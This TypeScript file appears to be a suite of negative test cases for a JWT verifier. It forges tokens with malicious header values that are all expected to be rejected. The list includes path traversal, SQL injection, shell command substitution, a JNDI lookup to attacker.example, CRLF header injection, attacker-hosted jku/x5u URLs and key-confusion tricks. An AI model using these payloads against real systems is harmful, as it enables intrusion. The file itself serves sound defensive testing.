import { tokenCases } from './case.js';
import { segment, signer, token } from './forge.js';
import type { Forge, Members } from './forge.js';

/** By a key of the attacker's, with whatever the header says about it. */
const strange = (header: Members) => (forge: Forge) =>
  token(forge, { header, sign: signer(forge.keys.strange) });

const injected: readonly string[] = [
  '../../../../../../dev/null',
  '/proc/self/environ',
  'file:///dev/null',
  'C:\\Windows\\win.ini',
  "' OR '1'='1",
  "x' UNION SELECT 'secret';--",
  '$(id)',
  '`id`',
  '| id',
  '{{7*7}}',
  '${jndi:ldap://attacker.example/a}',
  '%s%s%n',
  '__proto__',
  'constructor',
  'toString',
  'keys',
  '0',
  '*',
  '',
  'k1 ',
  'K1',
  'k1\u0000',
  'k1\r\nX-Mcp-Subject: root',
  'k\u{ff11}',
  'k'.repeat(4000),
];

const injections = tokenCases([
  ...injected.map(
    (kid) => [`kid ${JSON.stringify(kid.slice(0, 40))}`, strange({ kid }), 'unknown_key'] as const,
  ),
  ...[null, 1, true, ['k1'], { kid: 'k1' }].map(
    (kid) => [`kid ${JSON.stringify(kid)}`, strange({ kid }), 'unknown_key'] as const,
  ),
  ['no kid', strange({ kid: undefined }), 'signature'],
]);

/** Keys that the token itself brings along, or says where to fetch. */
const brought = tokenCases([
  [
    'jwk with the key that signed',
    (forge) => strange({ jwk: forge.keys.strange.jwk })(forge),
    'signature',
  ],
  [
    'jwk with the key that signed, and no kid',
    (forge) => strange({ kid: undefined, jwk: forge.keys.strange.jwk })(forge),
    'signature',
  ],
  [
    'jwk with an HMAC secret',
    (forge) => strange({ alg: 'HS256', jwk: { kty: 'oct', k: segment('secret') } })(forge),
    'algorithm',
  ],
  [
    'jku of the attacker',
    (forge) => strange({ jku: `${forge.attacker}/jwks` })(forge),
    'signature',
  ],
  [
    'jku of the attacker and an unknown kid',
    (forge) => strange({ kid: 'mine', jku: `${forge.attacker}/jwks` })(forge),
    'unknown_key',
  ],
  [
    'jku that begins like the issuer',
    (forge) => strange({ jku: `${forge.issuer}@${forge.attacker.slice(7)}/jwks` })(forge),
    'signature',
  ],
  ['jku of a file', strange({ jku: 'file:///etc/passwd' }), 'signature'],
  ['x5u of the attacker', (forge) => strange({ x5u: `${forge.attacker}/x5` })(forge), 'signature'],
  ['x5c of the attacker', strange({ x5c: [segment('certificate')] }), 'signature'],
  ['x5c of no list', strange({ x5c: 'certificate' }), 'signature'],
  [
    'x5t of the attacker',
    strange({ x5t: segment('thumb'), 'x5t#S256': segment('t') }),
    'signature',
  ],
]);

/** Extensions that a verifier must understand or refuse (RFC 7515 §4.1.11, RFC 7797). */
const extensions = tokenCases([
  ...[['exp'], ['b64'], ['http://example.com/x'], [], ['crit'], 'exp', null, {}, [1]].map(
    (crit) =>
      [
        `crit ${JSON.stringify(crit)}`,
        (forge: Forge) => token(forge, { header: { crit, exp: 1 } }),
        'header',
      ] as const,
  ),
  [
    'b64 false in crit',
    (forge) => token(forge, { header: { b64: false, crit: ['b64'] } }),
    'header',
  ],
  ['b64 false', (forge) => token(forge, { header: { b64: false } }), 'header'],
  ['b64 true', (forge) => token(forge, { header: { b64: true } }), 'header'],
]);

const issuers = tokenCases([
  [
    'the key of another trusted issuer under the same kid',
    (forge) => token(forge, { sign: signer(forge.keys.others) }),
    'signature',
  ],
  [
    'the key and kid of another trusted issuer',
    (forge) => token(forge, { header: { kid: 'k9' }, sign: signer(forge.keys.othersOwn) }),
    'unknown_key',
  ],
  [
    "the issuer's key in the name of another trusted issuer",
    (forge) => token(forge, { payload: { iss: forge.other } }),
    'signature',
  ],
  [
    "an RSA key of the attacker's under the issuer's kid",
    (forge) =>
      token(forge, { header: { alg: 'RS256', kid: 'k3' }, sign: signer(forge.keys.strangeRsa) }),
    'signature',
  ],
]);

const types: readonly unknown[] = [
  ...['JWT', 'jwt', 'application/jwt', 'id+jwt', 'logout+jwt', 'secevent+jwt', 'dpop+jwt'],
  ...['rt+jwt', 'refresh+jwt', 'oauth-authz-req+jwt', 'token-introspection+jwt', 'JWE', 'JOSE'],
  ...['at+jwtx', 'xat+jwt', 'at jwt', 'at+jwt,JWT', 'application/application/at+jwt', ''],
  ...[null, 1, ['at+jwt'], { typ: 'at+jwt' }],
];

const mistyped = tokenCases([
  ...types.map(
    (typ) =>
      [
        `typ ${JSON.stringify(typ)} by the issuer`,
        (forge: Forge) => token(forge, { header: { typ } }),
        'type',
      ] as const,
  ),
  ['no typ', (forge) => token(forge, { header: { typ: undefined } }), 'type'],
  [
    'an ID token',
    (forge) =>
      token(forge, {
        header: { typ: undefined },
        payload: { nonce: 'n', at_hash: 'h', auth_time: 1, scope: undefined },
      }),
    'type',
  ],
  [
    'a refresh token that is a JWT',
    (forge) => token(forge, { header: { typ: 'JWT' }, payload: { typ: 'Refresh' } }),
    'type',
  ],
]);

export const keyCases = [...injections, ...brought, ...extensions, ...issuers, ...mistyped];
